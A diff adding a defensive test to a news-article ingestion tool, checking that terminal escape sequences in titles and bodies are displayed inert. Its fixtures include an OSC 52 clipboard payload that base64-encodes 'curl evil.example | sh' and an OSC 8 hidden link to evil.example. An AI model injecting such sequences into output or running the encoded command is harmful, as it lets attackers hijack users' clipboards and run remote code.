@@ -180,3 +180,47 @@ def test_ingest_and_search_on_postgresql(reports: Path) -> None:
         assert len(jsonl(wf("articles", "--db", db, "--json")[1])) == 3
         hits = jsonl(wf("search", "railway workers", "--db", db, "--json")[1])
         assert len(hits) == 3 and "railway" in hits[0]["snippet"]
+
+
+# Hostile text: OSC 52 writes the clipboard, OSC 8 hides a link, ESC [2J clears the
+# screen, U+009B is the one-character CSI, BEL rings; none may reach the terminal.
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+OSC8 = "\x1b]8;;http://evil.example/\x1b\\Homyel\x1b]8;;\x1b\\"
+CLEAR = "\x1b[2J\x1b[H"
+C1_CSI = "\x9b31m"
+RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\x9d")
+
+
+def test_terminal_escapes_in_titles_and_bodies_are_shown_not_sent(tmp_path: Path) -> None:
+    """`articles`, `show` and `search` print control characters as visible \\xNN; JSON
+    output carries them as \\u escapes, so the data stays exact and the terminal safe."""
+    title = f"Armour {OSC52}arrives {C1_CSI}near {CLEAR}Homyel"
+    body = [STORY.format(n=n) + f" Seen near {OSC8} {OSC52} station." for n in (1, 2)]
+    source = tmp_path / "hostile.json"
+    source.write_text(
+        json.dumps({"title": title, "outlet": f"Polesie{CLEAR} Wire", "text": "\n\n".join(body)}),
+        encoding="utf-8",
+    )
+    db = str(tmp_path / "w.db")
+    code, _, err = wf("ingest", str(source), "--db", db, "--quiet", "--no-nlp")
+    assert code == 0, err
+    [row] = jsonl(wf("articles", "--db", db, "--json")[1])
+    outputs = {
+        "articles": wf("articles", "--db", db),
+        "show": wf("show", str(row["id"]), "--db", db),
+        "show --all-lines": wf("show", str(row["id"]), "--all-lines", "--db", db),
+        "search": wf("search", "railway", "--db", db),
+        "articles --json": wf("articles", "--db", db, "--json"),
+        "show --json": wf("show", str(row["id"]), "--db", db, "--json"),
+    }
+    for command, (code, out, err) in outputs.items():
+        assert code == 0, (command, err)
+        for raw in RAW_CONTROLS:
+            assert raw not in out + err, (command, raw, out)
+    shown = outputs["show"][1]
+    assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07" in shown  # visible, inert
+    assert "\\x9b31m" in shown and "\\x1b[2J" in shown
+    assert "Seen near \\x1b]8;;http://evil.example/\\x1b\\Homyel" in shown
+    # JSON keeps the exact text: a reader of the JSON gets what was stored
+    assert json.loads(outputs["show --json"][1])["title"] == row["title"]
+    assert "\\u009b" in outputs["articles --json"][1]
